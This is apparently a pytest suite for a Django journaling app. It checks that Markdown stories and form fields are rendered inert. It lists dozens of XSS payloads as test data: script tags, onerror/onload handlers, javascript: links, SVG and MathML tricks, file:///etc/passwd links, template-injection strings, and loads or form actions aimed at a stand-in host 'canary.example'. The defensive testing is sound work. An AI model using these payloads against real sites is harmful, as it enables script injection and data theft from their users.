"""Whatever a person writes is shown and never acts: no script, no handler, nothing loaded from elsewhere."""

from pathlib import Path
from urllib.parse import quote

import pytest
from django.http import HttpResponse
from django.test import Client

from smallwins import bootstrap
from smallwins.journal.commands import AddStep, AddWin, AnswerWin, LinkWins, OverruleWin
from smallwins.journal.doors import link_wins
from smallwins.journal.judging import answer_win, overrule_win
from smallwins.journal.settings import today_of
from smallwins.journal.steps import add_step
from smallwins.journal.wins import add_win
from smallwins.web.markdown import story
from tests.hostile import HOSTILE

from .journals import Elements, journal, name, shown, write

CANARY = "canary.example"
HTML = [
    # What runs
    "<script>alert(1)</script>",
    f'<script src="//{CANARY}/x.js"></script>',
    "<SCRIPT/x>alert(1)</SCRIPT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</div></main></body><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    '<script type="module">import("https://canary.example/x.js")</script>',
    # What runs when something happens
    f"<img src=x onerror=fetch('//{CANARY}')>",
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    '<input autofocus onfocus="alert(1)">',
    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "<img src=x\nonerror\n=\nalert(1)>",
    '<a href="https://a" onclick="alert(1)">x</a>',
    # What is read in another language than its neighbours
    "<svg><script>alert(1)</script></svg>",
    f'<svg><use href="https://{CANARY}/x.svg#x"></use></svg>',
    "<svg><animate attributeName=href to=javascript:alert(1)></animate></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x onload=alert(1)>",
    # What loads, sends or leads elsewhere
    f'<img src="https://{CANARY}/x.png">',
    f'<iframe src="https://{CANARY}"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    f'<object data="https://{CANARY}"></object>',
    f'<embed src="https://{CANARY}">',
    f'<link rel="stylesheet" href="https://{CANARY}/x.css">',
    f"<style>@import url(https://{CANARY}/x.css)</style>",
    f'<p style="background:url(https://{CANARY}/x)">x</p>',
    f'<base href="https://{CANARY}/">',
    f'<meta http-equiv="refresh" content="0;url=https://{CANARY}">',
    f'<form action="https://{CANARY}"><button>x</button></form>',
    f'<video poster="https://{CANARY}/x.png"></video>',
    '<a href="javascript:alert(1)">x</a>',
    '<p hx-get="/lock" hx-trigger="load">x</p>',
]
MARKDOWN = [
    # Pictures
    f"![x](https://{CANARY}/x.png)",
    f"![x][y]\n\n[y]: https://{CANARY}/x.png",
    f"[![x](https://{CANARY}/x.png)](https://a)",
    # Links that run
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\u0001javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<javascript:alert(1)>",
    "[x]\n\n[x]: javascript:alert(1)",
    # Links into this machine, this program, or to nobody knows where
    "[x](file:///etc/passwd)",
    f"[x](//{CANARY})",
    f"[x](/\\{CANARY})",
    "[x](/lock)",
    # Signs that end an attribute, a fence, or a word
    '[x](https://a "onmouseover=alert(1)")',
    '[x](https://a\'"onmouseover="alert(1))',
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "{{ 7*7 }}{% include 'base.html' %}",
    "\u202egnp.exe",
]
STORIES = [*HTML, *MARKDOWN]
TEXTS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "{{ request }}{% raw %}",
    "\u202edesrever\u202c \u2066x",
    "مرحبا بالعالم",
    "Z" + "\u0300\u0323" * 60 + "algo",
    "\ufeff\u200b\u200d\u3164",
    "javascript:alert(1)",
    "&lt;b&gt; &amp;amp;",
    "\ufffe\uffff\U0010ffff",
    "x" * 480,
]
ACTIVE = {"script", "iframe", "object", "embed", "base", "style", "svg:script", "video", "audio", "form:foreign"}
LOADS = {"src", "srcset", "data", "poster", "background", "xlink:href", "formaction"}


def _is_harmless(html: str) -> None:
    elements = Elements(HttpResponse(html))
    own_scripts = [attributes for tag, attributes in elements.all if tag == "script"]
    assert all(attributes.get("src", "").startswith("/static/") for attributes in own_scripts)
    for tag, attributes in elements.all:
        assert tag == "script" or tag not in ACTIVE, tag
        assert tag != "img"
        assert tag != "meta" or attributes.get("http-equiv") is None
        for key, value in attributes.items():
            assert not key.startswith("on"), (tag, key)
            assert key != "style"
            if key in LOADS or (key == "href" and tag != "a") or key in ("action", "hx-get", "hx-post"):
                assert value.startswith(("/", "?")), (tag, key, value)
                assert not value.startswith(("//", "/\\")), (tag, key, value)
            if key == "href":
                assert (
                    value.split(":")[0].lower() in ("http", "https", "mailto")
                    or value.startswith(("/", "#", "?"))
                    or not value
                )


@pytest.mark.parametrize("text", STORIES)
def test_a_story_is_never_active(text: str) -> None:
    html = str(story(text))
    _is_harmless(html)
    for tag, attributes in Elements(HttpResponse(html)).all:
        assert not set(attributes) - {"href", "title", "rel", "start"}, (tag, attributes)
        if tag == "a" and "href" in attributes:
            assert attributes["href"].startswith(("http:", "https:", "mailto:"))
            assert set(attributes["rel"].split()) >= {"noopener", "nofollow"}


def test_a_story_keeps_what_markdown_is_for() -> None:
    html = str(
        story(
            "# Head\n\n*so* **so** ~~no~~\n\n- a\n\n> b\n\n| x |\n|---|\n| y |\n\n"
            "[z](https://example.org) <me@example.org>"
        )
    )
    for kept in (
        "<h3>Head</h3>",
        "<em>so</em>",
        "<strong>so</strong>",
        "<s>no</s>",
        "<li>a</li>",
        "<td>y</td>",
        "mailto:me@example.org",
    ):
        assert kept in html


def test_no_page_is_made_active_by_a_story(ada: Client, home: Path) -> None:
    for text in STORIES:
        write("A story", story=text)
    for number in range(1, len(STORIES) + 1):
        _is_harmless(ada.get(f"/wins/{number}").content.decode())


@pytest.mark.parametrize("text", TEXTS)
def test_hostile_text_in_every_field_is_shown_for_what_it_is(ada: Client, home: Path, text: str) -> None:
    goal = name(text, why=text, skills=(text,))
    earlier = write(text, days_ago=3, tags=(text[:70],), story=text, goals=(goal.id,))
    with journal() as one:
        at = bootstrap.now()
        later = add_win(one, AddWin(bootstrap.new_id(), at, text, today_of(one, at), opened_by=(earlier.id,)))
        answer_win(one, AnswerWin(earlier.id, at, opened="door", door_note=text, gains=("skill:" + text,)))
        overrule_win(one, OverruleWin(earlier.id, at, "real", text))
        add_step(one, AddStep(bootstrap.new_id(), later.win.id, at, text, None))
        link_wins(one, LinkWins(earlier.id, later.win.id, at))
    pages = [
        "/", "/?ask=1&question=gains", "/?ask=1&then=door", "/wins/1", "/wins/2", "/wins/2?add=earlier", "/wins",
        f"/wins?words={quote(text[:200])}", f"/wins?tag={quote(text[:70])}", "/wins?goal=1",
    ]  # fmt: skip
    for address in pages:
        page = ada.get(address)
        assert page.status_code == 200, address
        _is_harmless(page.content.decode())
    refused = ada.post("/", {"title": text, "tags": text, "happened_on": "no day", "id": "x", "next": text})
    assert refused.status_code == 422
    _is_harmless(refused.content.decode())
    assert text[:40].strip() in shown(ada.get("/wins/1")) or "<" in text or not text.isprintable()


def test_every_hostile_text_is_listed_found_and_told_without_harm(ada: Client, home: Path) -> None:
    lines = [text for text in HOSTILE if text.strip() and "\n" not in text and "\r" not in text and len(text) <= 500]
    at = bootstrap.now()
    with journal() as one:
        for text in HOSTILE:
            title = text if text in lines else "A story"
            add_win(one, AddWin(bootstrap.new_id(), at, title, today_of(one, at), story=text))
    for address in ["/", "/wins", *(f"/wins/{number}" for number in range(1, len(HOSTILE) + 1))]:
        page = ada.get(address)
        assert page.status_code == 200, address
        _is_harmless(page.content.decode())
    for text in lines:
        page = ada.get("/wins", {"words": text[:200]})
        assert page.status_code == 200, text
        _is_harmless(page.content.decode())
